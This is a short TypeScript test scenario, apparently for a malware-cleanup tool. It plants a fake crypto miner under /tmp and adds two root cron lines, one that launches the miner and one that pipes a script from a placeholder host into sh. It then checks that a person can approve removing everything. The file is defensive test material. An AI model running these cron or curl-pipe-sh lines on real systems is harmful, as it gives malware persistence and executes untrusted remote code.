import { scenario } from '../scenario.ts';
import { addCron } from '../words.ts';

const line = '*/5 * * * * /tmp/.al/miner';
const updater = '7 4 * * * curl -fsSL https://updates.example.test/agent.sh | sh';

export default scenario({
  what: 'a miner, and a line that nothing links: all of it is taken',
  report: 'What is offered unticked goes when a person says so, and then nothing is left.',
  plant: {
    images: ['/tmp/.al/miner'],
    start: `${addCron('root', [line, updater])}\nrun /tmp/.al/miner`,
    runs: ['/tmp/.al/miner'],
  },
  decide: { take: ['/tmp/.al/miner', line, updater] },
  expect: {
    verdict: 'confirmed',
    ticked: { processes: ['/tmp/.al/miner'], files: ['/tmp/.al/miner'], starters: [line] },
    unticked: [updater],
    left: [],
    resolution: 'cleaned',
  },
});
